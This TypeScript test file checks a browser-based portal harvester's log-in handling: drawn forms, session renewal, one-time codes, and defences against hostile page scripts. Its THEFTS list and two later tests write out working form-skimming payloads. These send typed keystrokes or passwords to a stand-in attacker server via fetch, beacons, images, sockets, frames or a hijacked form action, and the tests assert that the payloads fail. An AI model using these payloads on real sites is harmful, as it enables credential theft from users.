import { afterAll, expect, test } from "vitest";
import { AddressGuard } from "#platform/egress";
import { BrowserPool } from "#engines/browser";
import { MemoryLogIn } from "../sites/memory-log-in.ts";
import { useHarvester } from "../flows/open-harvester.ts";
import type { SiteHandler } from "../sites/local-site.ts";
import { ACCOUNT, signedInList, type SignedInOptions } from "../sites/signed-in-lists.ts";

const pool = new BrowserPool({ guard: new AddressGuard(), maxBrowsers: 1 });
const { harvester, serve } = await useHarvester(async () => pool);
afterAll(() => pool.close());
const TIMEOUT = { timeout: 120_000 };

async function portal(options: Partial<SignedInOptions> = {}, hosts: readonly string[] = []) {
  const site = signedInList({ count: 25, size: 10, ...options });
  const served = await serve(site.handle);
  const logIn = new MemoryLogIn({ origins: [served.url] });
  const request = { url: `${served.url}/tenders`, allowHosts: [served.host, ...hosts], logIn };
  return { site, served, logIn, request };
}

/** Keeps whatever it is sent. */
function thief() {
  const heard: string[] = [];
  const handle: SiteHandler = ({ method, path, query, form }) => {
    heard.push(`${method} ${path} ${query} ${form}`);
    return { body: "", headers: { "access-control-allow-origin": "*" } };
  };
  const stole = () =>
    heard.filter((line) => decodeURIComponent(line.replaceAll("+", " ")).includes(ACCOUNT.password.slice(0, 8)));
  return { handle, heard, stole };
}

test("a log-in that a script draws is passed, and the list is walked with its session", TIMEOUT, async () => {
  const { site, request } = await portal({ form: "drawn" });

  const result = await harvester.harvest(request);

  expect(result.completeness).toMatchObject({ state: "complete", found: 25 });
  expect(site.tries()).toBe(1);
});

test("a wrong password in a drawn log-in is tried once", TIMEOUT, async () => {
  const { site, served, request } = await portal({ form: "drawn" });
  const logIn = new MemoryLogIn({ origins: [served.url], password: "wrong" });

  await expect(harvester.harvest({ ...request, logIn })).rejects.toMatchObject({
    code: "login_failed",
    details: { why: "refused" },
  });
  expect(site.tries()).toBe(1);
});

test("a browser's walk that is signed out in the middle signs in again and goes on", TIMEOUT, async () => {
  const { site, request } = await portal({ endsSessionAfter: 2 });

  const result = await harvester.harvest({ ...request, transport: "browser" });

  expect(result.completeness).toMatchObject({ state: "complete", found: 25 });
  expect(site.tries()).toBe(2);
});

/** Each runs in the portal's own page, as a script that somebody smuggled in. */
const THEFTS: [string, (evil: string) => string][] = [
  [
    "fetches elsewhere on each key",
    (to) =>
      `addEventListener("input", (e) => fetch("${to}/k?v=" + encodeURIComponent(e.target.value), { mode: "no-cors" }))`,
  ],
  [
    "posts elsewhere when the form is sent",
    (to) =>
      `addEventListener("submit", () => fetch("${to}/s", { method: "POST", mode: "no-cors", keepalive: true, body: document.querySelector("[type=password]").value }))`,
  ],
  [
    "shows a picture from elsewhere",
    (to) => `addEventListener("input", (e) => { new Image().src = "${to}/i?v=" + encodeURIComponent(e.target.value) })`,
  ],
  [
    "sends a beacon elsewhere",
    (to) => `addEventListener("input", (e) => navigator.sendBeacon("${to}/b", e.target.value))`,
  ],
  [
    "bends the form when it is sent",
    (to) => `addEventListener("submit", () => { document.forms[0].action = "${to}/f" }, true)`,
  ],
  [
    "opens a socket elsewhere",
    (to) =>
      `addEventListener("input", (e) => new WebSocket("${to.replace("http", "ws")}/ws?v=" + encodeURIComponent(e.target.value)))`,
  ],
  [
    "opens a window elsewhere",
    (to) => `addEventListener("input", (e) => open("${to}/w?v=" + encodeURIComponent(e.target.value)))`,
  ],
  [
    "leaves the page with what was typed",
    (to) =>
      `addEventListener("input", (e) => { if (e.target.type === "password") location.href = "${to}/l?v=" + encodeURIComponent(e.target.value) })`,
  ],
  [
    "loads a frame from elsewhere",
    (to) =>
      `addEventListener("input", (e) => { const f = document.createElement("iframe"); f.src = "${to}/x?v=" + encodeURIComponent(e.target.value); document.body.append(f) })`,
  ],
];

test.each(THEFTS)("a page's script that %s gets nothing out", TIMEOUT, async (_how, script) => {
  const { handle, stole } = thief();
  const evil = await serve(handle);
  const { site, request } = await portal({ extra: `<script>${script(evil.url)}</script>` }, [evil.host]);

  await harvester.harvest({ ...request, transport: "browser" }).catch(() => undefined);

  expect(stole()).toEqual([]);
  expect(site.tries()).toBeLessThanOrEqual(1);
});

test("the script that steals is heard as long as nothing is typed", TIMEOUT, async () => {
  const { handle, heard } = thief();
  const evil = await serve(handle);
  const extra = `<script>fetch("${evil.url}/hello", { mode: "no-cors" })</script>`;
  const { request } = await portal({ extra }, [evil.host]);

  await harvester.harvest({ ...request, transport: "browser" }).catch(() => undefined);

  expect(heard.some((line) => line.includes("/hello"))).toBe(true);
});

test("a form in a frame of another origin gets nothing", TIMEOUT, async () => {
  const lookalike = signedInList({ count: 5, size: 5 });
  const evil = await serve(lookalike.handle);
  const served = await serve(({ path }) =>
    path === "/tenders"
      ? {
          body: `<title>Sign in</title><p>Please sign in.</p><iframe src="${evil.url}/login" width="600" height="400"></iframe>`,
        }
      : null,
  );
  const logIn = new MemoryLogIn({ origins: [served.url] });
  const request = { url: `${served.url}/tenders`, allowHosts: [served.host, evil.host], transport: "browser" as const };

  await expect(harvester.harvest({ ...request, logIn })).rejects.toMatchObject({ code: "login_unsafe" });
  expect([lookalike.tries(), logIn.begun]).toEqual([0, 0]);
});

test("a frame that claims to be the portal's own is asked again when the password is typed", TIMEOUT, async () => {
  const lookalike = signedInList({ count: 5, size: 5 });
  const evil = await serve(lookalike.handle);
  const served = await serve(({ path }) =>
    path === "/tenders"
      ? {
          body: `<title>Sign in</title><p>Please sign in.</p><form method="post" action="/login"><input name="u"><input type="password" name="p"><button>Sign in</button></form>
<script>const f = document.forms[0]; f.setAttribute("action", "/login"); setInterval(() => { f.setAttribute("action", "${evil.url}/login/do") }, 5)</script>`,
        }
      : null,
  );
  const logIn = new MemoryLogIn({ origins: [served.url] });
  const request = { url: `${served.url}/tenders`, allowHosts: [served.host, evil.host], transport: "browser" as const };

  await expect(harvester.harvest({ ...request, logIn })).rejects.toMatchObject({ code: "login_unsafe" });
  expect(lookalike.tries()).toBe(0);
});

test("a code is typed after a drawn log-in, and a new one when the session ends", TIMEOUT, async () => {
  const { site, served, request } = await portal({ form: "drawn", codes: true, endsSessionAfter: 2 });
  const logIn = new MemoryLogIn({ origins: [served.url], hasCodes: true });

  const result = await harvester.harvest({ ...request, transport: "browser", logIn });

  expect(result.completeness).toMatchObject({ state: "complete", found: 25 });
  expect([site.tries(), site.codes.length]).toEqual([2, 2]);
});

test("a code that the portal refuses is not tried again in a browser", TIMEOUT, async () => {
  const { site, served, request } = await portal({ form: "drawn", codes: true });
  const logIn = new MemoryLogIn({ origins: [served.url], code: "000000" });

  await expect(harvester.harvest({ ...request, logIn })).rejects.toMatchObject({
    code: "login_failed",
    details: { why: "code_refused" },
  });
  expect(site.codes).toEqual(["000000"]);
});
